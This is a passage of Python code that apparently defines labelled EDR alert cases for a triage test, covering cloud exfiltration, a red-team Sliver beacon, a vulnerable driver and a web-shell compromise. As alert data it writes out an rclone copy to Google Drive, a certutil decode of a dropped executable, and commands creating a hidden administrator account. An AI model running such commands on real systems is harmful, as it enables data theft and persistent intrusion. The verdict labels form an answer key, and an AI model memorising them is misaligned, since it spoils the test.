        title or f"[HarfangLab] {rule} - {host}",
        description,
        {"informational": "low"}.get(level, level),
        "harfanglab",
        raw,
        systems=[host],
        tags=["edr", alert_type],
    )


HARFANGLAB = [
    harfanglab(
        1,
        "Rclone Execution with Cloud Remote",
        "sigma",
        "medium",
        "TWH-BGO-WS0360",
        {
            "image_name": "rclone.exe",
            "commandline": "rclone.exe copy D:\\Study\\CARDIO-22 gdrive:work --transfers 8",
            "username": "TWH\\f.solberg",
            "signed": True,
        },
        (SUS, EXFIL, []),
        "Research coordinator syncing the CARDIO-22 extracts to a personal Google Drive to work from home. The "
        "files are the pseudonymised set the ethics board approved for the study, but personal cloud storage "
        "is not an approved location; 380 MB so far.",
        ["T1567.002"],
    ),
    harfanglab(
        2,
        "Sliver Implant Behaviour",
        "hlai",
        "critical",
        "TWH-OSA-WS0009",
        {
            "image_name": "OneDriveUpdaterSvc.exe",
            "commandline": "C:\\Users\\Public\\OneDriveUpdaterSvc.exe",
            "username": "TWH\\rt-operator1",
            "signed": False,
        },
        (BEN, MALWARE, []),
        "Red team exercise RT-2026-04 (CISO-approved, 8-19 Dec): the operators planted a Sliver beacon on this "
        "pre-agreed Osaka workstation; C2 is the red team's own server listed in the rules of engagement.",
        ["T1071.001"],
        title="Red team implant seen on TWH-OSA-WS0009 (expected)",
    ),
    harfanglab(
        3,
        "Vulnerable Driver Loaded (RTCore64.sys)",
        "driverblock",
        "high",
        "TWH-GOT-RAD3D01",
        {
            "image_name": "MSIAfterburner.exe",
            "commandline": '"C:\\Program Files (x86)\\MSI Afterburner\\MSIAfterburner.exe" /m',
            "username": "TWH\\g.petersson",
            "signed": True,
        },
        (SUS, MALWARE, []),
        "RTCore64.sys is a driver attackers load to kill EDR. Here its parent is the signed MSI Afterburner "
        "that the 3D imaging lab's technician installed to watch GPU temperatures; no attempt to touch security "
        "processes was seen, but nobody approved the install.",
        ["T1068", "T1562.001"],
    ),
    harfanglab(
        4,
        "Certutil Decode Spawned by IIS Worker",
        "sigma",
        "critical",
        "TWH-OSA-WEB02",
        {
            "image_name": "certutil.exe",
            "commandline": "certutil -decode C:\\inetpub\\portal\\tmp\\a.txt C:\\inetpub\\portal\\tmp\\h.exe",
            "parent_image": "w3wp.exe",
            "username": "IIS APPPOOL\\PatientPortal",
        },
        (MAL, GENERIC, ["isolate_host"]),
        "The patient portal's app pool (portal.tidewater-health.org) ran certutil to decode a dropped file, then "
        "whoami, net user helpdesk$ P@ss /add and net localgroup administrators helpdesk$ /add. A .aspx upload "
        "in the images folder 10 minutes earlier looks like a web shell.",
        ["T1505.003", "T1140", "T1136.001"],
    ),
]


CASES: list[Case] = [*AMP, *HX, *KSC, *WITHSECURE, *THREATDOWN, *FORTIEDR, *TANIUM, *SYSMON, *VELOCIRAPTOR, *HARFANGLAB]
